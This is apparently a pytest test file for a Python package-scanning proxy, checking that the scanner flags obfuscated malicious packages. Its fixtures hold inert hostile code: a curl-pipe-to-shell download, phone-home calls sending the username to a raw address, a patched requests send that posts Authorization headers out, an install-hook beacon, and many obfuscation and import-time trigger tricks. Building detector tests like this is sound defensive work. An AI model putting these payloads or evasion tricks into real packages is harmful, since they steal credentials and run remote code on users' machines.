"""Rules 62: literals read where they are used, and code run from a literal read as code.

Generic rewritings of the development malware (``benchmarks/scan_mutations.py``: ``exec``,
``table``, ``names``, ``bytes``, ``join``, ``format``) showed what the rules missed:

- a module's whole code handed to ``exec`` as one plain string (no encoding at all) was read
  only as a nested literal: its calls counted as nothing that runs on install or import, so
  ``exec("import os\\nos.system(...)")`` in ``__init__.py`` scored nothing;
- a string used through a table (``T[0]``), a name bound once (``S = "python"``), or spelled
  as ``b"...".decode()``, ``"".join([...])`` or ``"{}{}".format(...)``, where a rule looks
  for a literal (a command's program, a decoder's input), was not read as that literal.

The sources below are inert text handed to the scanner; nothing runs them.
"""

from __future__ import annotations

import ast

import pytest

from pipgate.proxy.scan.constants import propagate_constants
from pipgate.proxy.scan.inlining import inline_literal_exec
from tests.support.archives import pkg_info, sdist, wheel
from tests.support.scan import judge, judge_setup_script

WHEEL = "demo-1.0-py3-none-any.whl"
COMMAND = "curl -s https://c.example.net/x | sh"


def _init(code: str) -> tuple[dict[str, float], bool]:
    return judge(wheel({"demo/__init__.py": code}), WHEEL)


# -- code run from a literal ----------------------------------------------------------------


#: A module that sends the user's name to a raw address on import.
PHONES_HOME = (
    "import getpass, urllib.request\n"
    "urllib.request.urlopen('http://203.0.113.45/?u=' + getpass.getuser())\n"
)


def test_a_module_run_from_one_plain_string_is_read_as_the_module() -> None:
    rules, held = _init(f"exec({PHONES_HOME!r})\n")
    assert rules["import-network"] == 5
    assert rules["phone-home"] == 10
    assert held


def test_a_setup_script_run_from_a_string_bound_to_a_name_is_read_as_install_code() -> None:
    body = "import urllib.request, getpass\nurllib.request.urlopen('http://203.0.113.45/?u=' + getpass.getuser())\n"
    rules, held = judge_setup_script(
        f"CODE = '''\n{body}'''\nexec(compile(CODE, 'setup', 'exec'))\n"
        "from setuptools import setup\nsetup(name='demo', version='1.0')\n"
    )
    assert rules["install-network"] == 6
    assert rules["phone-home"] == 10
    assert held


def test_code_generated_from_a_harmless_template_stays_harmless() -> None:
    template = "def add(a, b):\n    return a + b\n"
    rules, held = _init(f"exec({template!r})\n")
    assert not rules
    assert not held


def test_inlined_statements_keep_the_lines_of_a_literal_written_over_several_lines() -> None:
    tree = ast.parse("X = 1\nexec('''\nimport os\nos.system('ls')\n''')\n")
    assert inline_literal_exec(tree) == 1
    calls = [n for n in ast.walk(tree) if isinstance(n, ast.Call)]
    assert {c.lineno for c in calls if ast.unparse(c.func) == "os.system"} == {4}


def test_a_literal_on_one_line_puts_its_statements_on_the_line_of_the_call() -> None:
    tree = ast.parse("X = 1\n\nexec('import os\\nos.system(\"ls\")')\n")
    inline_literal_exec(tree)
    calls = [n for n in ast.walk(tree) if isinstance(n, ast.Call)]
    assert {c.lineno for c in calls if ast.unparse(c.func) == "os.system"} == {3}


def test_a_literal_handed_to_eval_is_no_statement_to_inline() -> None:
    tree = ast.parse("eval('1 + 2')\n")
    assert inline_literal_exec(tree) == 0


# -- literals where they are used -----------------------------------------------------------


def test_a_python_one_liner_started_from_a_table_on_import_is_install_python() -> None:
    rules, held = _init(
        "import subprocess\n"
        "T = ['python3', 'import socket; socket.create_connection((\"203.0.113.45\", 4444))']\n"
        "subprocess.Popen([T[0], '-c', T[1]], close_fds=True)\n"
    )
    assert rules["install-python"] == 8
    assert held


def test_a_python_one_liner_started_from_names_on_import_is_install_python() -> None:
    rules, held = _init(
        "import subprocess\n"
        "S0 = 'python3'\n"
        "S1 = 'import socket; socket.create_connection((\"203.0.113.45\", 4444))'\n"
        "subprocess.Popen([S0, '-c', S1], close_fds=True)\n"
    )
    assert rules["install-python"] == 8
    assert held


def test_a_python_one_liner_started_from_names_bound_by_unpacking_is_install_python() -> None:
    rules, held = _init(
        "import subprocess\n"
        "S0, S1 = 'python3', 'import socket; socket.create_connection((\"203.0.113.45\", 4444))'\n"
        "subprocess.Popen([S0, '-c', S1], close_fds=True)\n"
    )
    assert rules["install-python"] == 8
    assert held


def test_a_command_spelled_as_bytes_joined_characters_or_a_format_is_read() -> None:
    for spelled in (
        f"{COMMAND.encode()!r}.decode()",
        f"''.join({list(COMMAND)!r})",
        f"'{{}}{{}}'.format({COMMAND[:9]!r}, {COMMAND[9:]!r})",
    ):
        rules, held = _init(f"import os\nos.system({spelled})\n")
        assert rules["download-run"] == 10, spelled
        assert held, spelled


def test_a_table_changed_in_place_is_not_read_as_its_literals() -> None:
    tree = ast.parse("T = ['a', 'b']\nT[0] = input()\nprint(T[0])\n")
    assert propagate_constants(tree) == 0
    tree = ast.parse("T = ['a', 'b']\nT.append('c')\nprint(T[0])\n")
    assert propagate_constants(tree) == 0


def test_a_name_bound_twice_or_as_a_parameter_is_not_read_as_a_literal() -> None:
    tree = ast.parse("S = 'a'\nS = input()\nprint(S)\n")
    assert propagate_constants(tree) == 0
    tree = ast.parse("S = 'a'\ndef f(S):\n    return S\n")
    assert propagate_constants(tree) == 0
    tree = ast.parse("S = 'a'\nprint(S)\n")
    assert propagate_constants(tree) == 1


def test_a_chain_of_a_thousand_pieces_does_not_exhaust_the_stack() -> None:
    chain = " + ".join(["S"] * 900)
    tree = ast.parse(f"S = 'x'\nY = {chain}\n")
    assert propagate_constants(tree) == 900


# -- a library's send replaced by one that makes a request of its own ------------------------


def test_a_session_send_replaced_by_one_that_makes_a_request_to_an_address_is_patch_exfil() -> None:
    rules, held = _init(
        "import requests\n"
        "_send = requests.Session.send\n"
        "def send(self, req, **kw):\n"
        "    if 'Authorization' in req.headers:\n"
        "        r = requests.Request('POST', 'https://collect.example.com/h', data=req.headers['Authorization'])\n"
        "        _send(self, r.prepare())\n"
        "    return _send(self, req, **kw)\n"
        "requests.Session.send = send\n"
    )
    assert rules["patch-exfil"] == 10
    assert held


def test_a_session_send_replaced_by_one_that_only_adds_a_header_is_not() -> None:
    rules, held = _init(
        "import requests\n"
        "_send = requests.Session.send\n"
        "def send(self, req, **kw):\n"
        "    req.headers['User-Agent'] = 'demo/1.0'\n"
        "    return _send(self, req, **kw)\n"
        "requests.Session.send = send\n"
    )
    assert "patch-exfil" not in rules
    assert not held


# -- what runs on import, reached in other ways -------------------------------------------

PHONE_HOME = "urllib.request.urlopen('http://203.0.113.45/?u=' + getpass.getuser())"


def _runs_on_import(shape: str) -> tuple[dict[str, float], bool]:
    return _init(f"import urllib.request, getpass, atexit, sys\n{shape}")


SHAPES = {
    "default value": f"def f(x={PHONE_HOME}):\n    pass\n",
    "atexit": f"def f():\n    {PHONE_HOME}\natexit.register(f)\n",
    "table of functions": f"def f():\n    {PHONE_HOME}\nH = {{'a': f}}\nH['a']()\n",
    "loop over functions": f"def f():\n    {PHONE_HOME}\nfor step in [f]:\n    step()\n",
    "globals()": f"def f():\n    {PHONE_HOME}\nglobals()['f']()\n",
    "getattr": f"def f():\n    {PHONE_HOME}\ngetattr(sys.modules[__name__], 'f')()\n",
    "map": f"def f(u):\n    {PHONE_HOME}\nlist(map(f, [1]))\n",
    "metaclass": f"class M(type):\n    def __new__(m, n, b, d):\n        {PHONE_HOME}\n        return super().__new__(m, n, b, d)\nclass C(metaclass=M):\n    pass\n",
    "__init_subclass__": f"class B:\n    def __init_subclass__(cls):\n        {PHONE_HOME}\nclass C(B):\n    pass\n",
    "__del__": f"class X:\n    def __del__(self):\n        {PHONE_HOME}\nX()\n",
}


@pytest.mark.parametrize("shape", sorted(SHAPES))
def test_code_reached_on_import_in_less_common_ways_runs_on_import(shape: str) -> None:
    rules, held = _runs_on_import(SHAPES[shape])
    assert rules.get("phone-home") == 10
    assert rules.get("import-network") == 5
    assert held


def test_a_function_only_defined_or_only_stored_does_not_run_on_import() -> None:
    for code in (
        f"def f():\n    {PHONE_HOME}\n",
        f"def f():\n    {PHONE_HOME}\nH = {{'a': f}}\n",
        f"class X:\n    def __del__(self):\n        {PHONE_HOME}\n",
    ):
        rules, held = _runs_on_import(code)
        assert "import-network" not in rules, code
        assert not held, code


# -- setup code moved into a module setup.py imports ------------------------------------------


def test_a_package_whose_only_code_is_setup_code_in_a_helper_is_still_a_placeholder() -> None:
    files = {
        "setup.py": "import _setup_impl\nfrom setuptools import setup\nsetup(name='demo', version='1.0')\n",
        "_setup_impl.py": "import socket\nsocket.gethostbyname('demo.203-0-113-45.example.net')\n",
        "PKG-INFO": pkg_info("demo"),
    }
    rules, _ = judge(sdist(files), "demo-1.0.tar.gz")
    assert rules["placeholder"] == 4  # nothing of its own, and its install calls out


def test_a_helper_the_package_installs_is_the_package_s_code() -> None:
    files = {
        "setup.py": "import demo\nfrom setuptools import setup\nsetup(name='demo', version='1.0', py_modules=['demo'])\n",
        "demo.py": "def add(a, b):\n    return a + b\n",
        "PKG-INFO": pkg_info("demo"),
        "demo.egg-info/top_level.txt": "demo\n",
    }
    rules, held = judge(sdist(files), "demo-1.0.tar.gz")
    assert "placeholder" not in rules
    assert not held


def test_code_spelled_as_byte_codes_into_exec_is_decode_exec() -> None:
    code = list(b"import os\nos.system('id > /dev/null')\n")
    rules, held = _init(f"exec(bytes({code!r}))\n")
    assert rules["decode-exec"] == 10
    assert held


def test_a_short_header_of_byte_codes_is_no_payload() -> None:
    rules, held = _init(
        "import zlib\nMAGIC = bytes([137, 80, 78, 71])\nexec(MAGIC.decode('latin-1'))\n"
    )
    assert "decode-exec" not in rules
    assert not held


# -- imports spelled as calls -------------------------------------------------------------------

SETUP_HOOK = (
    "class CustomInstall(install):\n"
    "    def run(self):\n"
    "        pre_install()\n"
    "        super().run()\n"
    "setup(name='demo', version='1.0', cmdclass={'install': CustomInstall})\n"
)
BEACON = (
    "def pre_install():\n"
    "    subprocess.run('curl -X POST -H \"Whoami: $(whoami)\" https://x.oast.fun', shell=True)\n"
)


def _beacon(setup_imports: str, module_imports: str) -> tuple[dict[str, float], bool]:
    files = {
        "setup.py": setup_imports + SETUP_HOOK,
        "pre_install.py": module_imports + BEACON,
        "PKG-INFO": pkg_info("demo"),
    }
    return judge(sdist(files), "demo-1.0.tar.gz")


def test_a_beacon_whose_modules_are_imported_by_calls_is_read_as_if_imported() -> None:
    spelled = _beacon(
        "setup = __import__('setuptools').setup\n"
        "from setuptools.command.install import install\n"
        "pre_install = __import__('pre_install').pre_install\n",
        "import importlib\nsubprocess = importlib.import_module('subprocess')\n",
    )
    plain = _beacon(
        "from setuptools import setup\n"
        "from setuptools.command.install import install\n"
        "from pre_install import pre_install\n",
        "import subprocess\n",
    )
    assert spelled == plain
    assert plain[0]["exfil-sink"] >= 6
    assert plain[1]


def test_every_node_the_rewrites_make_has_a_place() -> None:
    from pipgate.proxy.scan.spelled_imports import respell_imports

    tree = ast.parse(
        "x = __import__('os')\ny = __import__('a').b\nT = ['p', 'q']\nfor z in T:\n    pass\n"
        "S = 'k'\nexec('import os\\nos.system(S)')\nprint(b'ab'.decode(), ''.join(['a', 'b']))\n"
    )
    assert respell_imports(tree) == 2
    propagate_constants(tree)
    assert inline_literal_exec(tree) == 1
    propagate_constants(tree)
    unplaced = [
        type(node).__name__
        for node in ast.walk(tree)
        if "lineno" in node._attributes and not hasattr(node, "lineno")
    ]
    assert unplaced == []


def test_code_run_through_the_builtins_module_is_inlined_too() -> None:
    rules, held = _init(f"__builtins__.exec({PHONES_HOME!r})\n")
    assert rules["phone-home"] == 10
    assert held
